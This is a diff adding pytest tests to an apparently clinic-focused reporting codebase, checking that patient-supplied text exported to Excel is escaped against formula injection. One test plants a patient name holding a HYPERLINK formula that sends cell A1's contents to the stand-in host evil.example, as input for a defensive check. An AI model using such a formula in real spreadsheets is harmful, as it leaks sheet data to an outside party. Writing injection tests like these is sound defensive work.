@@ -310,3 +310,40 @@ def test_the_page_and_the_pdf_show_the_first_rows_and_the_xlsx_all(clinic, monke
     monkeypatch.setattr(files.table, "__defaults__", (5,))
     text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(files.pdf(report, data))).pages)
     assert "The first 5 of 7 rows are printed here" in text
+
+
+def test_a_patient_named_like_a_formula_stays_text_in_the_sales_register(clinic, money_day):
+    """Formula injection: what a patient typed as their name never runs in the clinic's Excel."""
+    from reporting import files
+
+    money_day["first"].patient.__class__.objects.filter(pk=money_day["first"].patient_id).update(
+        first_name='=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    )
+    data = reports.sales_register(clinic, DAY, DAY, {})
+    report = Report(clinic=clinic, report_type=ReportType.SALES_REGISTER, start_date=DAY, end_date=DAY, requested_by=UserFactory())
+    sheet = load_workbook(io.BytesIO(files.xlsx(report, data))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
+    assert cells, "the patient's name is in the register"
+    assert all(cell.value.startswith("'=") and cell.data_type == "s" for cell in cells)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+91 98450 12345", "'+91 98450 12345"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Asha\x01 Rao", "Asha Rao"),
+        ("Asha Rao", "Asha Rao"),
+        (D("-2.50"), D("-2.50")),
+        (-3, -3),
+        (None, None),
+    ],
+)
+def test_every_text_cell_is_neutralised_and_numbers_stay_numbers(value, cell):
+    from clinicos.spreadsheets import safe_cell
+
+    assert safe_cell(value) == cell
